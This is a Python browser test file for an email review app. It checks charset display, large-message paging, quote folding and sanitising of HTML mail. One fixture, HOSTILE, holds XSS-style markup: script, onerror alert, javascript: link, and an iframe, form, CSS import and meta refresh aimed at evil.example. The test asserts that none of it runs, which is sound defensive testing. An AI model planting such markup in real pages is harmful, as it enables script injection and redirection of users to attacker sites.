"""Real mails on the item's screen: long, in any alphabet, as HTML; readable, quick and harmless."""

from __future__ import annotations

import time
from email import message_from_bytes
from email.message import EmailMessage
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Page, expect

from intake.parsers.email import parse_email
from review_queue.models import Task
from review_queue.services.arriving.intake import receive_task
from tests.browser.conftest import OpenDesk
from tests.browser.test_accessibility import faults_of
from tests.builders import CLI, a_workflow
from tests.intake.corpus import Row, manifest
from tests.review_queue.desk.pages import address

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HOSTILE = """<p>Hello from the letter</p><script>parent.document.title='taken'</script>
<img src="http://tracker.example/p.gif" onerror="alert(1)"><iframe src="//evil.example"></iframe>
<form action="//evil.example"><input name=password></form><a href="javascript:alert(1)">press</a>
<style>@import url(//evil.example/x.css);</style>
<meta http-equiv=refresh content="0;//evil.example">
"""
LINES = 65_000


def taken_in(raw: bytes) -> Task:
    """One mail as it comes through the door."""
    a_workflow()
    return receive_task(submission=parse_email(raw, workflow_key="support-replies"), actor=CLI).task


def a_mail(text: str, html: str = "") -> bytes:
    """A mail with one text part and, if given, its HTML version."""
    mail = EmailMessage()
    mail["From"], mail["To"] = "Sam <sam@example.com>", "office@example.com"
    mail["Subject"] = "A letter"
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    return mail.as_bytes()


def frame_text(page: Page) -> str:
    """Open the HTML version, if it is closed, and read what its frame shows."""
    fold = page.locator('details[data-card="html"]')
    if fold.get_attribute("open") is None:
        fold.locator("summary").click()
    body = page.frame_locator("iframe.foreign-frame").locator("body")
    body.wait_for()
    return body.inner_text()


def declared_and_plain(raw: bytes) -> tuple[str, str]:
    """The first text part's charset and words, as Python's own reader has them; "" when unsure."""
    for part in message_from_bytes(raw).walk():
        if part.get_content_type() != "text/plain":
            continue
        charset = part.get_param("charset")
        content = part.get_payload(decode=True)
        if not isinstance(charset, str) or not isinstance(content, bytes):
            return "", ""
        try:
            text = content.decode(charset)
        except (UnicodeDecodeError, LookupError):
            return "", ""
        return charset.lower(), "" if text.isascii() else text
    return "", ""


def one_of_each_charset(shared_data: Path) -> dict[str, tuple[Row, str]]:
    """For every charset of the corpus one mail that needs it, and a long foreign word of it."""
    found: dict[str, tuple[Row, str]] = {}
    for row in manifest(shared_data):
        charset, text = declared_and_plain((shared_data / row["file"]).read_bytes())
        words = [word for word in text.split() if len(word) > 1 and not word.isascii()]
        if words and charset not in found:
            found[charset] = (row, max(words[:40], key=len))
    return found


def test_every_alphabet_of_the_corpus_is_readable(
    open_desk: OpenDesk, bob: User, shared_data: Path
) -> None:
    mails = one_of_each_charset(shared_data)
    assert len(mails) >= 10
    desk = open_desk(bob, width=320)
    site = desk.page.url.split("/admin/")[0]
    lost: list[str] = []
    for charset, (row, word) in mails.items():
        task = taken_in((shared_data / row["file"]).read_bytes())
        desk.page.goto(site + address("review_item", task.pk))
        shown = desk.page.locator('[data-card="source"]').inner_text()
        quoted = desk.page.locator('[data-card="quoted"]')
        shown += (quoted.text_content() or "") if quoted.count() else ""
        if word not in shown or "\ufffd" in shown:
            lost.append(f"{charset} {row['file']}: {word}")
        assert desk.page.evaluate("document.documentElement.scrollWidth") <= 320
    assert lost == []
    assert desk.foreign == []


def test_html_mails_of_the_corpus_show_their_text_and_load_nothing(
    open_desk: OpenDesk, bob: User, shared_data: Path
) -> None:
    rows = [row for row in manifest(shared_data) if row["ref_has_html"] == "1"]
    desk = open_desk(bob)
    site = desk.page.url.split("/admin/")[0]
    read = 0
    for row in rows[::5]:
        task = taken_in((shared_data / row["file"]).read_bytes())
        if not task.source.html:
            continue
        desk.page.goto(site + address("review_item", task.pk))
        assert frame_text(desk.page).strip(), row["file"]
        read += 1
    assert read >= 8
    assert desk.foreign == []
    assert desk.complaints == []


def test_a_hostile_letter_neither_runs_nor_leads_away(open_desk: OpenDesk, bob: User) -> None:
    task = taken_in(a_mail("Hello from the letter", HOSTILE))
    desk = open_desk(bob, address("review_item", task.pk))
    desk.page.on("dialog", lambda _: pytest.fail("a stranger's script ran"))
    title = desk.page.title()
    assert "Hello from the letter" in frame_text(desk.page)
    assert desk.page.title() == title
    inside = desk.page.frame_locator("iframe.foreign-frame")
    assert inside.locator("script, img, iframe, form, input, a, meta[http-equiv]").count() == 0
    assert desk.foreign == []


def test_a_mail_of_5_mb_opens_fast_and_can_be_read_to_its_end(
    open_desk: OpenDesk, bob: User
) -> None:
    text = "\n".join(
        f"Line {at} of a very long message, with words to wrap." for at in range(LINES)
    )
    raw = a_mail(text + " ".join(["", "padding"] * 200_000) + "\nThe very last words")
    assert len(raw) > 5_000_000
    task = taken_in(raw)
    page = open_desk(bob, width=390).page
    site = page.url.split("/admin/")[0]
    began = time.process_time()  # of the server: how busy the machine is says nothing
    page.goto(site + address("review_item", task.pk))
    page.get_by_role("heading", name="What came in").wait_for()
    assert time.process_time() - began < 5
    page.get_by_role("link", name="Read the whole text").click()
    expect(page.get_by_text("Line 0 of a very long message")).to_be_visible()
    page.get_by_role("link", name="Next part").click()
    expect(page.get_by_text("Part 2 of")).to_be_visible()
    page.get_by_role("link", name="Last part").click()
    expect(page.get_by_text("The very last words")).to_be_attached()
    expect(page.get_by_role("link", name="Next part")).to_have_count(0)
    assert faults_of(page) == []


@pytest.mark.parametrize("width", [320, 1280])
def test_a_long_thread_folds_what_was_quoted(open_desk: OpenDesk, bob: User, width: int) -> None:
    thread = "My lamp is broken.\n\nOn Mon, 2 Nov 2026 at 10:00, Shop <a@example.com> wrote:\n"
    for depth in range(1, 60):
        thread += f"{'>' * depth} Answer number {depth} about the lamp and where it stands now\n"
    task = taken_in(a_mail(thread))
    page = open_desk(bob, address("review_item", task.pk), width=width).page
    letter = page.get_by_role("region", name="Text of the message")
    assert letter.inner_text().strip() == "My lamp is broken."
    page.get_by_text("Earlier messages and signature").click()
    earlier = page.get_by_role("region", name="Earlier messages quoted")
    assert "Answer number 59 about the lamp" in earlier.inner_text()
    assert page.evaluate("document.documentElement.scrollWidth") <= width
